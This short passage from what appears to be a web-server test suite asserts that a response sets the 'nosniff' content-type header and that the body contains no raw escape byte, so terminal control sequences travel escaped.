        assert answer.header("X-Content-Type-Options") == "nosniff"
        assert b"\x1b" not in answer.body, "controls travel escaped: a terminal that shows the stream isn't steered"
